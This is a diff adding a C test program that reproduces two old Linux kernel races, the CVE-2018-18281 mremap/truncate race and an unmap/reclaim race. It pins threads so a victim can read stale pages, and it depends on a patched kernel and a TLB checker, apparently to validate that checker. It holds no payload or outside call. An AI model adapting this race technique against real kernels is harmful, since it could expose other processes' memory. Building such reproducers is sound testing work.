@@ -1,0 +1,192 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+/*
+ * upstream-bug: uses the window of two old bugs of Linux
+ *
+ *   upstream-bug mremap PATH    a page is truncated while another thread moves
+ *                               its mapping (CVE-2018-18281)
+ *   upstream-bug reclaim PATH   a page is unmapped while another thread
+ *                               reclaims it (before commit 3ea277194daa)
+ *
+ * Three threads, each on a CPU of its own: the victim reads a page all the
+ * time, the second opens the window, the third does what must not happen in
+ * it. The kernel has to hold the window open (upstream-bugs.patch). PATH is a
+ * file to be made, on a disk. Prints the address and what the victim read.
+ *
+ * Exit status: 0 the attack was made, 1 it could not be made, 2 wrong use.
+ */
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <pthread.h>
+#include <sched.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdatomic.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <unistd.h>
+
+#include <exec/tlb-check-guest.h>
+
+#define PAGE		4096ul
+#define BYTES		(16 * PAGE)
+#define OWN		0x5a5a5a5a5a5a5a5aull
+#define IN_WINDOW_US	50000
+#define AFTER_US	500000
+
+#define MUST(what) do {							\
+	if ((long)(what) < 0) {						\
+		perror(#what);						\
+		exit(1);						\
+	}								\
+} while (0)
+
+enum { VICTIM_CPU = 2, SECOND_CPU = 1, THIRD_CPU = 0 };
+
+static char *page;
+static int file;
+static atomic_ulong reads, faults, foreign;
+static atomic_ullong first_foreign;
+static atomic_bool over;
+static sigjmp_buf out;
+
+static void pin(int cpu)
+{
+	cpu_set_t set;
+
+	CPU_ZERO(&set);
+	CPU_SET(cpu, &set);
+	MUST(sched_setaffinity(0, sizeof(set), &set));
+}
+
+static void on_fault(int number)
+{
+	(void)number;
+	siglongjmp(out, 1);
+}
+
+static void *victim(void *unused)
+{
+	(void)unused;
+	pin(VICTIM_CPU);
+	while (!atomic_load(&over)) {
+		unsigned long long word;
+
+		if (sigsetjmp(out, 0)) {
+			atomic_fetch_add(&faults, 1);
+			continue;
+		}
+		word = *(volatile unsigned long long *)page;
+		if (word != OWN && !atomic_fetch_add(&foreign, 1))
+			atomic_store(&first_foreign, word);
+		atomic_fetch_add(&reads, 1);
+	}
+	return NULL;
+}
+
+static void *move(void *unused)
+{
+	char *to = mmap(NULL, BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+	(void)unused;
+	pin(SECOND_CPU);
+	if (to == MAP_FAILED ||
+	    mremap(page, BYTES, BYTES, MREMAP_MAYMOVE | MREMAP_FIXED, to) != to) {
+		perror("mremap");
+		exit(1);
+	}
+	return NULL;
+}
+
+static void *reclaim(void *unused)
+{
+	(void)unused;
+	pin(SECOND_CPU);
+	MUST(madvise(page, BYTES, MADV_PAGEOUT));
+	return NULL;
+}
+
+/* The freed frames are the checker's to see; they get a new owner here. */
+static void truncate_it(void)
+{
+	size_t i, bytes = 64 << 20;
+	char *other;
+
+	MUST(ftruncate(file, 0));
+	other = mmap(NULL, bytes, PROT_READ | PROT_WRITE,
+		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if (other == MAP_FAILED)
+		exit(1);
+	for (i = 0; i < bytes; i += PAGE)
+		memset(other + i, 0xee, sizeof(long));
+}
+
+static void unmap_it(void)
+{
+	MUST(madvise(page, BYTES, MADV_DONTNEED));
+	/* From here on nobody may reach the old page. */
+	tlb_check_arm(page, BYTES);
+}
+
+static void make_file(const char *path)
+{
+	static unsigned long long words[BYTES / sizeof(unsigned long long)];
+	size_t i;
+
+	for (i = 0; i < BYTES / sizeof(words[0]); i++)
+		words[i] = OWN;
+	file = open(path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
+	MUST(file);
+	if (write(file, words, BYTES) != (ssize_t)BYTES) {
+		perror(path);
+		exit(1);
+	}
+	MUST(fsync(file));
+}
+
+int main(int argc, char **argv)
+{
+	struct sigaction action = { .sa_handler = on_fault, .sa_flags = SA_NODEFER };
+	bool moves = argc == 3 && !strcmp(argv[1], "mremap");
+	pthread_t threads[2];
+
+	if (!moves && !(argc == 3 && !strcmp(argv[1], "reclaim"))) {
+		fputs("usage: upstream-bug mremap|reclaim PATH\n", stderr);
+		return 2;
+	}
+	if (!tlb_check_present()) {
+		fputs("upstream-bug: no checker runs below this system\n", stderr);
+		return 1;
+	}
+	make_file(argv[2]);
+	page = mmap(NULL, BYTES, PROT_READ, MAP_SHARED, file, 0);
+	if (page == MAP_FAILED) {
+		perror("mmap");
+		return 1;
+	}
+	printf("address %#lx\n", (unsigned long)page);
+	sigaction(SIGSEGV, &action, NULL);
+	sigaction(SIGBUS, &action, NULL);
+	pin(THIRD_CPU);
+	if (pthread_create(&threads[0], NULL, victim, NULL))
+		return 1;
+	while (!atomic_load(&reads))
+		sched_yield();
+	if (pthread_create(&threads[1], NULL, moves ? move : reclaim, NULL))
+		return 1;
+	usleep(IN_WINDOW_US);
+	if (moves)
+		truncate_it();
+	else
+		unmap_it();
+	pthread_join(threads[1], NULL);
+	usleep(AFTER_US);
+	atomic_store(&over, true);
+	pthread_join(threads[0], NULL);
+	printf("%lu reads, %lu faults, %lu of something else, first %#llx\n",
+	       atomic_load(&reads), atomic_load(&faults), atomic_load(&foreign),
+	       atomic_load(&first_foreign));
+	return 0;
+}
